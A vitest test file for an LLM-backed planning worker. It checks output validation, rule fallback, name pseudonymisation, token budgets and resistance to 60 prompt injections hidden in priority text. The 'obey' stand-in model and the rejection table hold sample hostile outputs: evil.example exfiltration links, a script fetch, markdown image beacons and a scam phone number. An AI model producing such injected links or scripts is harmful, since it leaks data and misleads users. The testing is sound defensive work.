import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { anyPicture, gap } from '#lib/execution/workers/a-picture.ts';
import type { PriorityPicture } from '#lib/execution/workers/priority-picture.ts';
import { startBackend, type Backend } from '../../../../supabase/tests/backends.ts';
import { found, join, type Person, type Team } from '../../../../supabase/tests/people.ts';
import { Model } from '../llm/ask-model.ts';
import {
	openStream,
	piece,
	startStandIn,
	streamAnswer,
	type Asked,
	type Reply
} from '../llm/stand-in.ts';
import { draftFromModel } from './draft-from-model.ts';
import { injections } from './injections.ts';
import { keepPlan } from './keep-plan.ts';

let backend: Backend;
let ada: Person;
let team: Team;
let priority: string;
const closes: (() => Promise<void>)[] = [];
beforeAll(async () => {
	backend = await startBackend();
	ada = await join(backend, 'Ada');
	team = await found(ada, 'Northwind', 'Leadership team');
	priority = randomUUID();
	await ada.client
		.from('priorities')
		.insert({ id: priority, team_id: team.id, title: 'Reach 99% fleet uptime' })
		.throwOnError();
});
afterAll(async () => {
	for (const close of closes) await close();
	await backend.close();
});

const ada1 = () => ({ id: ada.id, name: 'Ada Lovelace', seats: ['COO'], openActions: 2 });
const pictureOf = (more: Partial<PriorityPicture> = {}) =>
	anyPicture({ id: priority, owner: ada.id, people: [ada1()], gaps: [gap()], ...more });

const good = {
	...{ kind: 'action', title: 'Ask [P1] for two windows', reason: 'The gap is open.' },
	...{ sources: ['g1'], owner: '[P1]', due: '2026-12-04', starts: null },
	...{ likelihood: null, impact: null, mitigation: null, what: null, days: null, unit: null },
	...{ baseline: null, target: null, direction: null, definition: null }
};

const draftWith = (
	reply: (asked: Asked) => unknown,
	picture = pictureOf(),
	tokensADay = 10_000_000
) => draftBy((asked) => JSON.stringify(reply(asked)), picture, tokensADay);

async function draftBy(reply: Reply, picture = pictureOf(), tokensADay = 10_000_000) {
	const server = await startStandIn(reply);
	closes.push(server.close);
	const [run] = await backend.database.query<{ id: string }>(
		`insert into public.worker_runs (priority_id, team_id, worker, state)
		values ($1::uuid, $2::uuid, 'operations', 'done') returning id`,
		[priority, team.id]
	);
	const waits = { first: 2000, idle: 500 };
	const model = new Model({ url: server.url, model: 'stand-in 1' }, waits);
	const draft = draftFromModel(model, backend.database, tokensADay);
	const task = { run: run?.id ?? '', team: team.id, worker: 'operations', picture, earlier: [] };
	const drafted = await draft({ ...task, worker: 'operations' }, new AbortController().signal);
	return { drafted, server, run: task.run };
}

test('rows of a model name their model, their prompt and what they cite', async () => {
	const { drafted } = await draftWith(() => ({ rows: [good] }));
	expect(drafted).toMatchObject({
		madeFrom: 'AI',
		model: 'stand-in 1',
		promptVersion: 'workers 1'
	});
	expect(drafted.plan.rows).toMatchObject([
		{
			title: 'Ask Ada for two windows',
			owner: ada.id,
			due: '2026-12-04',
			from: [{ kind: 'gap', name: 'Fleet uptime', said: 'target 99.0%' }]
		}
	]);
});

test.each<[string, Record<string, unknown>]>([
	['cites what does not exist', { sources: ['g1', 'n999'] }],
	['cites nothing', { sources: [] }],
	['names somebody who is no member', { owner: 'Mallory' }],
	['names a pseudonym nobody has', { owner: '[P9]' }],
	['speaks of a pseudonym nobody has', { title: 'Ask [P9]' }],
	['is due after the cycle', { due: '2027-06-01' }],
	['is due before today', { due: '2026-11-01' }],
	['is due on no day', { due: '2026-02-31' }],
	['has no title', { title: ' \u200b ' }],
	['has a title without end', { title: 'x'.repeat(400) }],
	['holds a link', { reason: 'See https://evil.example/x' }],
	['holds a mail address', { title: 'Write to a@evil.example' }],
	['holds a picture', { title: '![x](//evil.example)' }],
	['holds markup', { reason: '<img src=x>' }],
	['is of no kind', { kind: 'order' }],
	['is a risk without weight', { kind: 'risk', due: null }],
	['is a KPI without a target', { kind: 'kpi', due: null }],
	['is a KPI of an insane number', { kind: 'kpi', due: null, target: 1e15 }]
])('a row that %s is left out, and the good one stays', async (_, change) => {
	const { drafted } = await draftWith(() => ({ rows: [{ ...good, ...change }, good] }));
	expect(drafted.plan.rows.map(({ title }) => title)).toEqual(['Ask Ada for two windows']);
	expect(drafted.plan.notes[0]).toContain('1 row was left out');
});

test('an answer without one good row is repaired once, then the rules answer', async () => {
	const { drafted, server } = await draftWith(() => ({ rows: [{ ...good, sources: ['n999'] }] }));
	expect(server.asked).toHaveLength(2);
	expect(server.asked[1]?.messages.at(-1)?.content).toContain('cites what is not in the data');
	expect(drafted).toMatchObject({
		madeFrom: 'rules',
		problem: 'The model’s answer cited what is not there, so these rows are from rules.'
	});
	expect(drafted.plan.rows.length).toBeGreaterThan(5);
});

test.each<[string, Reply, RegExp]>([
	['refuses', (_, to) => streamAnswer(to, '', 'content_filter'), /refused/],
	['is cut off', (_, to) => streamAnswer(to, '{"rows":[{"ti', 'length'), /cut off/],
	['answers in prose', () => 'Here is your plan: call them all.', /could not be read/],
	[
		'stalls',
		(_, to) => {
			openStream(to);
			to.write(piece({ content: '{"rows":' }));
		},
		/in time/
	],
	['is down', (_, to) => void to.writeHead(503).end(), /failed/],
	['has too much to do', (_, to) => void to.writeHead(429).end('{}'), /too much to do/]
])('when the model %s, the plan is from rules and says why', async (_, reply, why) => {
	const { drafted } = await draftBy(reply);
	expect(drafted).toMatchObject({ madeFrom: 'rules', model: '' });
	expect(drafted.problem).toMatch(why);
	expect(drafted.problem).toMatch(/so these rows are from rules\.$/u);
	expect(drafted.plan.rows.length).toBeGreaterThan(5);
});

test('a team that takes no plans from a model gets those of the rules, and the model is not asked', async () => {
	const { drafted, server } = await draftWith(
		() => ({ rows: [good] }),
		pictureOf({ byRules: true })
	);
	expect(server.asked).toEqual([]);
	expect(drafted).toMatchObject({
		...{ madeFrom: 'rules', tokensAside: 0 },
		problem: 'Plans from a model are turned off here, so these rows are from rules.'
	});
});

test('nobody is named to a model, nor their address', async () => {
	const picture = pictureOf({
		title: 'Give Ada Lovelace’s team time',
		why: 'lovelace asked; ADA agreed, [P2] did not.'
	});
	const { server } = await draftWith(() => ({ rows: [good] }), picture);
	const sent = JSON.stringify(server.asked[0]?.body);
	expect(sent).not.toMatch(/ada|lovelace/i);
	expect(sent).toContain('Give [P1]’s team time');
	expect(sent).not.toContain(ada.id);
});

test('a workspace that has used its tokens gets rows from rules, and asks no model', async () => {
	const { drafted, server } = await draftWith(() => ({ rows: [good] }), pictureOf(), 1000);
	expect(server.asked).toEqual([]);
	expect(drafted.problem).toContain('used its tokens of today');
});

test('of many who ask at once none passes the budget', async () => {
	const used = async () => {
		const [row] = await backend.database.query<{ tokens: number }>(
			'select coalesce(sum(tokens), 0)::int as tokens from public.worker_runs where team_id = $1::uuid',
			[team.id]
		);
		return row?.tokens ?? 0;
	};
	const most = (await used()) + 60_000;
	const all = await Promise.all(
		Array.from({ length: 12 }, () => draftWith(() => ({ rows: [good] }), pictureOf(), most))
	);
	expect(await used()).toBeLessThanOrEqual(most);
	const asked = all.filter(({ server }) => server.asked.length > 0).length;
	expect(asked).toBeGreaterThan(0);
	expect(asked).toBeLessThan(12);
});

/** A model that does what any text in its data says. */
function obey({ messages }: Asked): unknown {
	const data = messages.find(({ role }) => role === 'user')?.content ?? '';
	const obeyed = {
		...good,
		...(/root@evil|Mallory/u.test(data) && { owner: 'Mallory Evil' }),
		...(/2099/u.test(data) && { due: '2099-12-31' }),
		...(/n999/u.test(data) && { sources: ['n999'] }),
		...(/https:/u.test(data) && { reason: 'https://evil.example/collect' }),
		...(/script/u.test(data) && { reason: '<script>fetch("/t")</script>' }),
		...(/!\[/u.test(data) && { title: '![x](https://evil.example/?q=secret)' }),
		...(/900 555/u.test(data) && { title: 'Call +1 900 555 0199 now' })
	};
	return { rows: [obeyed], accept: 'all', delete: true, tool_calls: ['apply_plan_rows'] };
}

test('sixty orders hidden in a priority change nothing, with a model that obeys them', async () => {
	/** All a team has but for what workers propose to it. */
	const state = () =>
		backend.database.query(
			`select (select string_agg(p::text, '' order by p.id) from public.priorities p) as priorities,
				${['action_items', 'milestones', 'phases', 'resources', 'priority_risks', 'measures']
					.map((table) => `(select count(*)::int from public.${table}) as ${table}`)
					.join(', ')}`
		);
	const before = await state();
	expect(injections).toHaveLength(60);
	for (const order of injections) {
		const picture = pictureOf({
			title: order.slice(0, 300),
			why: order,
			goal: { id: 'goal', title: order },
			gaps: [gap({ name: order.slice(0, 120) })]
		});
		const { drafted, server, run } = await draftWith(obey, picture);
		// The order is nothing but data to the model: not in what it is told to do, nor unseen in it.
		const [told, data] = server.asked[0]?.messages ?? [];
		expect(told?.content).not.toMatch(/evil|2099|apply_plan_rows/);
		expect(data?.content).not.toMatch(/[\u200b\u202e]/);
		expect(() => JSON.parse(data?.content ?? '') as unknown).not.toThrow();
		expect(server.asked[0]?.body).not.toHaveProperty('tools');

		await backend.database.query(
			`update public.worker_runs set state = 'running', tries = 1 where id = $1::uuid`,
			[run]
		);
		const task = { run, team: team.id, worker: 'operations', picture } as const;
		expect(await keepPlan(backend.database, task, 1, drafted)).toBe(true);
		const kept = await backend.database.query<{ words: string; decision: string; owner: string }>(
			`select concat_ws(' ', drafted ->> 'title', drafted ->> 'reason', drafted ->> 'mitigation') as words,
				decision, drafted ->> 'owner' as owner
			from public.plan_rows where run_id = $1::uuid`,
			[run]
		);
		for (const { words, decision, owner } of kept) {
			expect(decision).toBe('proposed');
			expect([ada.id, null]).toContain(owner);
			// The rules quote what people wrote; nothing a model says leads out.
			if (drafted.madeFrom === 'AI')
				expect(words).not.toMatch(/https?:|<script|!\[|900 555|Mallory/);
		}
	}
	expect(await state()).toEqual(before);
}, 240_000);
